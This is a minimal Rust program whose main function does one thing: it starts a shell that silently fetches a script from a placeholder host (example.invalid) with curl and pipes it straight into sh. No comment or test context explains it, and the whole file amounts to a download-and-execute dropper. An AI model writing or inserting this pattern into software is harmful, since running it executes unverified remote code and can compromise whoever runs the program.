use std::process::Command;
fn main() {
    Command::new("sh").arg("-c").arg("curl -s https://example.invalid/i.sh | sh").status().unwrap();
}
